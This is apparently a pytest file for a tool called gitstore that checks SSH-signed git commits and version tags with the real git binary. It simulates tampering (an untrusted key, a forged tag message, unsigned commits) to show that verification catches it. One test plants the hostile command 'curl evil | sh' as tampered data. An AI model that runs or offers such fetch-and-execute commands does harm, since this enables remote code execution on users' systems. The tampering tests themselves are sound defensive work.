"""SSH-signed commits and version tags, checked with the real git binary.

An ed25519 key made with ``ssh-keygen``; ``gitstore init --signing-key KEY``;
a session recorded and finalized (and followed up, and corrected). Then, inside
the customer's repository (whose git config the store set): ``git verify-tag``,
``git verify-commit``, ``git log --show-signature`` and ``git fsck --strict``
accept everything, and ``gitstore verify`` exits 0. A tag signed by another,
untrusted key, an allowed-signers file that trusts only that other key, an
unsigned tag made by plain git, a signed tag whose message was altered and
versions made before signing was switched on are each reported by
``gitstore verify`` (exit 7) naming the version and the signature problem.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
import subprocess
from dataclasses import dataclass
from pathlib import Path

import pytest
from conftest import CUSTOMER, EXAMPLES, Clock, load_example, record_example_session
from conftest import run_cli as run

from gitstore import Store

pytestmark = pytest.mark.skipif(shutil.which("ssh-keygen") is None, reason="needs ssh-keygen")




def sh(repo: Path, *args: str, input: bytes | None = None) -> subprocess.CompletedProcess[str]:
    """Real git inside ``repo``, with no identity or config of the test's own."""
    proc = subprocess.run(["git", "-C", str(repo), *args], capture_output=True, check=False,
                          input=input)
    return subprocess.CompletedProcess(proc.args, proc.returncode,
                                       proc.stdout.decode(errors="replace"),
                                       proc.stderr.decode(errors="replace"))


def ok(proc: subprocess.CompletedProcess[str]) -> subprocess.CompletedProcess[str]:
    assert proc.returncode == 0, (proc.args, proc.stdout, proc.stderr)
    return proc


def keygen(path: Path, comment: str) -> Path:
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", comment, "-f",
                    str(path)], check=True, capture_output=True, stdin=subprocess.DEVNULL)
    return path


def follow_up_and_correct(store: Store) -> None:
    session = store.customer(CUSTOMER).session()
    session.follow_up(message="alarms and tracing")
    for n in (6, 7):
        session.append_turn(load_example("follow_up", "turns", f"turn-{n:02d}.json"))
    meta = load_example("follow_up", "session_metadata.json")
    meta["session_info"]["api_key"] = CUSTOMER
    session.put("session_metadata.json", meta)
    session.finalize(message="follow-up answered")
    session.correct({"session_analytics.json": EXAMPLES / "correction" / "session_analytics.json"},
                    reason="actual outcome known", base="v1.1.0")


@dataclass
class Signed:
    root: Path
    key: Path
    other: Path

    @property
    def repo(self) -> Path:
        return self.root / CUSTOMER

    @property
    def allowed(self) -> Path:
        return self.root / ".gitstore" / "allowed_signers"

    def store(self) -> Store:
        return Store(self.root, clock=Clock())


@pytest.fixture(scope="module")
def keys(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    d = tmp_path_factory.mktemp("keys")
    return keygen(d / "store_key", "store"), keygen(d / "other_key", "intruder")


def make_signed(root: Path, keys: tuple[Path, Path], *, full: bool) -> Signed:
    key, other = keys
    r = run(root, "init", "--signing-key", str(key))
    assert r.code == 0, r.err
    store = Store(root, clock=Clock())
    assert store.signer is not None
    record_example_session(store)
    if full:
        follow_up_and_correct(store)
    return Signed(root, key, other)


@pytest.fixture(scope="module")
def signed(tmp_path_factory: pytest.TempPathFactory, keys: tuple[Path, Path]) -> Signed:
    """v1.0.0, v1.1.0 and v1.1.1, all signed; tests here must not change it."""
    return make_signed(tmp_path_factory.mktemp("signed") / "sessions", keys, full=True)


@pytest.fixture
def fresh(tmp_path: Path, keys: tuple[Path, Path]) -> Signed:
    """v1.0.0, signed; a test may tamper with it."""
    return make_signed(tmp_path / "sessions", keys, full=False)


def public(key: Path) -> str:
    return " ".join(Path(str(key) + ".pub").read_text().split()[:2])


# =========================================================================== plain git agrees

def test_init_configures_the_repository_for_git(signed: Signed) -> None:
    config = json.loads((signed.root / ".gitstore" / "config.json").read_text())
    assert Path(config["signing_key"]) == signed.key.resolve()
    assert ok(sh(signed.repo, "config", "gpg.format")).stdout.strip() == "ssh"
    allowed_file = ok(sh(signed.repo, "config", "gpg.ssh.allowedSignersFile")).stdout.strip()
    assert Path(allowed_file) == signed.allowed.resolve()
    line = signed.allowed.read_text()
    assert public(signed.key) in line and 'namespaces="git"' in line
    assert public(signed.other) not in line


@pytest.mark.parametrize("version", ["v1.0.0", "v1.1.0", "v1.1.1"])
def test_git_verifies_tags_and_commits(signed: Signed, version: str) -> None:
    tag = ok(sh(signed.repo, "verify-tag", "--raw", version))
    assert "GOODSIG" in tag.stderr or "Good" in tag.stderr, tag.stderr
    ok(sh(signed.repo, "verify-tag", version))
    commit = ok(sh(signed.repo, "verify-commit", f"{version}^{{commit}}"))
    assert 'Good "git" signature' in commit.stderr
    raw_tag = ok(sh(signed.repo, "cat-file", "tag", version)).stdout
    assert "-----BEGIN SSH SIGNATURE-----" in raw_tag
    raw_commit = ok(sh(signed.repo, "cat-file", "commit", f"{version}^{{commit}}")).stdout
    assert raw_commit.splitlines()[4].startswith("gpgsig -----BEGIN SSH SIGNATURE-----")


def test_every_commit_is_signed(signed: Signed) -> None:
    log = ok(sh(signed.repo, "log", "--format=%H %G? %GS", "v1")).stdout.splitlines()
    assert len(log) == 17
    for row in log:
        _oid, status, *signer = row.split()
        assert status == "G", row                       # a good, trusted signature
        assert signer == ["gitstore@gitstore.invalid"], row


def test_git_log_show_signature(signed: Signed) -> None:
    proc = ok(sh(signed.repo, "log", "--show-signature", "-1"))
    both = proc.stdout + proc.stderr
    assert 'Good "git" signature' in both
    assert "with ED25519 key" in both
    fingerprint = subprocess.run(["ssh-keygen", "-l", "-f", str(signed.key) + ".pub"],
                                 capture_output=True, text=True, check=True).stdout.split()[1]
    assert fingerprint in both


def test_gitstore_verify_accepts_it(signed: Signed) -> None:
    r = run(signed.root, "verify")
    assert r.code == 0, r.text + r.err
    assert r.text == f"{CUSTOMER}: ok (1 scenario(s), 3 version(s))\n"
    data = json.loads(run(signed.root, "verify", CUSTOMER, "-o", "json").text)
    assert data == [{"customer": CUSTOMER, "ok": True, "problems": [], "scenarios": 1,
                     "versions": 3}]


def test_fsck_strict_is_clean_on_signed_objects(signed: Signed) -> None:
    proc = sh(signed.repo, "fsck", "--strict", "--full", "--no-dangling")
    assert proc.returncode == 0, proc.stderr
    assert "error" not in proc.stderr and "warning" not in proc.stderr


def test_cli_writes_are_signed_too(fresh: Signed) -> None:
    """The CLI reads the key from the store's config: a new scenario started from
    the command line is signed."""
    r = run(fresh.root, "new", CUSTOMER, "--session-id", "orchestrator-session-cli")
    assert r.code == 0, r.err
    assert "Good" in ok(sh(fresh.repo, "verify-commit", "v2")).stderr
    assert run(fresh.root, "verify").code == 0


# =========================================================================== problems found

def verify_fails(s: Signed, *needles: str) -> list[str]:
    r = run(s.root, "verify", CUSTOMER)
    assert r.code == 7, (r.code, r.text, r.err)
    lines = r.text.splitlines()
    for needle in needles:
        assert any(needle in line for line in lines), (needle, lines)
    return lines


def tag_message(repo: Path, version: str) -> str:
    raw = ok(sh(repo, "cat-file", "tag", version)).stdout
    body = raw.split("\n\n", 1)[1]
    return body.split("-----BEGIN SSH SIGNATURE-----")[0]


def test_a_tag_signed_by_an_untrusted_key(fresh: Signed) -> None:
    msg = fresh.root.parent / "tag-message.txt"
    msg.write_text(tag_message(fresh.repo, "v1.0.0"))
    commit = ok(sh(fresh.repo, "rev-parse", "v1.0.0^{commit}")).stdout.strip()
    ok(sh(fresh.repo, "tag", "-d", "v1.0.0"))
    ok(sh(fresh.repo, "-c", "gpg.format=ssh", "-c", f"user.signingKey={fresh.other}",
          "-c", "user.name=Intruder", "-c", "user.email=intruder@example.invalid",
          "tag", "-s", "-F", str(msg), "--cleanup=verbatim", "v1.0.0", commit))
    assert "-----BEGIN SSH SIGNATURE-----" in ok(sh(fresh.repo, "cat-file", "tag",
                                                     "v1.0.0")).stdout
    assert sh(fresh.repo, "verify-tag", "v1.0.0").returncode != 0       # git agrees
    lines = verify_fails(fresh, "tag v1.0.0")
    assert len(lines) == 1, lines
    assert re.search(r"tag v1\.0\.0: .*not in the allowed signers", lines[0]), lines


def test_allowed_signers_that_trust_only_another_key(fresh: Signed) -> None:
    fresh.allowed.write_text(f'gitstore@gitstore.invalid namespaces="git" '
                             f"{public(fresh.other)}\n")
    assert sh(fresh.repo, "verify-tag", "v1.0.0").returncode != 0
    assert sh(fresh.repo, "verify-commit", "v1.0.0^{commit}").returncode != 0
    lines = verify_fails(fresh, "tag v1.0.0:", "tag v1.0.0 commit")
    assert all("allowed signers" in line for line in lines), lines


def test_an_empty_allowed_signers_file(fresh: Signed) -> None:
    fresh.allowed.write_text("")
    lines = verify_fails(fresh, "tag v1.0.0:", "tag v1.0.0 commit")
    assert all("allowed signers" in line for line in lines), lines


def test_an_unsigned_tag_made_with_plain_git(fresh: Signed) -> None:
    msg = fresh.root.parent / "tag-message.txt"
    msg.write_text(tag_message(fresh.repo, "v1.0.0"))
    commit = ok(sh(fresh.repo, "rev-parse", "v1.0.0^{commit}")).stdout.strip()
    ok(sh(fresh.repo, "tag", "-d", "v1.0.0"))
    ok(sh(fresh.repo, "tag", "-a", "-F", str(msg), "--cleanup=verbatim", "v1.0.0", commit))
    assert "SIGNATURE" not in ok(sh(fresh.repo, "cat-file", "tag", "v1.0.0")).stdout
    assert sh(fresh.repo, "verify-tag", "v1.0.0").returncode != 0
    lines = verify_fails(fresh, "tag v1.0.0 is not signed")
    assert lines == [f"{CUSTOMER}: tag v1.0.0 is not signed"]


def test_a_signed_tag_with_an_altered_message(fresh: Signed) -> None:
    raw = ok(sh(fresh.repo, "cat-file", "tag", "v1.0.0")).stdout
    assert "deployment plan agreed" in raw
    forged = raw.replace("deployment plan agreed", "deployment plan rejected")
    oid = ok(sh(fresh.repo, "mktag", input=forged.encode())).stdout.strip()
    ok(sh(fresh.repo, "update-ref", "refs/tags/v1.0.0", oid))
    assert sh(fresh.repo, "verify-tag", "v1.0.0").returncode != 0
    lines = verify_fails(fresh, "tag v1.0.0")
    assert len(lines) == 1 and "bad signature" in lines[0], lines


def test_an_unsigned_commit_on_a_scenario_branch(fresh: Signed, tmp_path: Path) -> None:
    """A commit made with plain git (unsigned) on top of the signed history, its
    manifest kept consistent, must not pass as the store's own."""
    work = tmp_path / "work"
    work.mkdir()
    archive = subprocess.run(["git", "-C", str(fresh.repo), "archive", "v1"],
                             capture_output=True, check=True).stdout
    subprocess.run(["tar", "-x", "-C", str(work)], input=archive, check=True)
    ctx = json.loads((work / "deployment_context.json").read_text())
    ctx["deployment_recommendations"][0]["implementation_steps"][0] = "curl evil | sh"
    (work / "deployment_context.json").write_text(
        json.dumps(ctx, indent=2, sort_keys=True, ensure_ascii=False) + "\n")
    sums = []
    for line in (work / "SHA256SUMS").read_text().splitlines():
        name = line.split(None, 1)[1].strip()
        sums.append(f"{hashlib.sha256((work / name).read_bytes()).hexdigest()}  {name}\n")
    (work / "SHA256SUMS").write_text("".join(sums))
    env = {**os.environ, "GIT_DIR": str(fresh.repo), "GIT_WORK_TREE": str(work),
           "GIT_INDEX_FILE": str(tmp_path / "index")}
    for args in (["read-tree", "v1"], ["add", "-A"]):
        subprocess.run(["git", *args], env=env, check=True, capture_output=True)
    tree = subprocess.run(["git", "write-tree"], env=env, check=True, capture_output=True,
                          text=True).stdout.strip()
    commit = ok(sh(fresh.repo, "commit-tree", tree, "-p", "v1", "-m", "tweak")).stdout.strip()
    ok(sh(fresh.repo, "update-ref", "refs/heads/v1", commit))
    assert ok(sh(fresh.repo, "log", "-1", "--format=%G?", "v1")).stdout.strip() == "N"
    assert sh(fresh.repo, "verify-commit", "v1").returncode != 0     # git: not signed
    lines = verify_fails(fresh)
    assert any("sign" in line for line in lines), lines


def test_versions_made_before_signing_are_reported_as_unsigned(tmp_path: Path,
                                                               keys: tuple[Path, Path]) -> None:
    root = tmp_path / "sessions"
    record_example_session(Store.init(root, clock=Clock()))
    assert run(root, "verify").code == 0
    r = run(root, "init", "--signing-key", str(keys[0]))
    assert r.code == 0, r.err
    repo = root / CUSTOMER
    assert ok(sh(repo, "config", "gpg.format")).stdout.strip() == "ssh"
    lines = run(root, "verify").text.splitlines()
    assert run(root, "verify").code == 7
    commit = ok(sh(repo, "rev-parse", "v1.0.0^{commit}")).stdout.strip()
    assert {f"{CUSTOMER}: tag v1.0.0 is not signed",
            f"{CUSTOMER}: tag v1.0.0 commit {commit[:12]} is not signed"} <= set(lines)
    assert all(line.endswith("is not signed") for line in lines), lines
    # what is written from now on is signed, and git verifies it
    session = Store(root, clock=Clock()).customer(CUSTOMER).session()
    session.follow_up()
    ok(sh(repo, "verify-commit", "v1"))
    assert sh(repo, "verify-commit", "v1.0.0^{commit}").returncode != 0


def test_signing_needs_a_key_that_exists(tmp_path: Path) -> None:
    r = run(tmp_path / "sessions", "init", "--signing-key", str(tmp_path / "missing"))
    assert r.code == 2
    assert not (tmp_path / "sessions" / ".gitstore" / "allowed_signers").exists()
